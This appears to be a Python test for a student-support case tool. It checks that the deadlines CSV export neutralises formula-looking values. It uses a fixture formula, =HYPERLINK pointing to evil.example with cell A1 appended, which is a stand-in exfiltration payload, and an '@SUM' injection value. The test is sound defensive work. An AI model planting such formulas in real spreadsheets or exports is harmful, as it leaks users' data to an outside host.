"""The deadlines CSV holds plan measures and executors that look like formulas as text
(issue 16 item 4)."""

import csv
import io
from datetime import date

from juvenile import db
from juvenile.cli import main
from juvenile.models import PlanMeasure, Student, SupportCase
from juvenile.rules.cases import CaseState
from juvenile.rules.iin import Sex

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def test_the_deadlines_csv_holds_measures_and_executors_as_text(world, capsys):
    with db.transaction() as session:
        student = Student(iin="120517300017", last_name="Әлиев", first_name="Ғалым",
                          birth_date=date(2012, 5, 17), sex=Sex.MALE,
                          school_id=world.schools["S1"], grade=7)
        session.add(student)
        session.flush()
        case = SupportCase(student_id=student.id, school_id=student.school_id,
                           state=CaseState.UNDER_SUPPORT, opened_on=date(2026, 10, 1))
        session.add(case)
        session.flush()
        session.add(PlanMeasure(case_id=case.id, description=HYPERLINK,
                                responsible="@SUM(1+1)", due_on=date(2026, 12, 20)))
    assert main(["deadlines", "--on", "2026-12-15"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    [measure] = [row for row in rows if row["kind"] == "plan_measure"]
    assert HYPERLINK in measure["detail"]
    assert not [value for row in rows for value in row.values()
                if value and value[0] in "=+-@"]
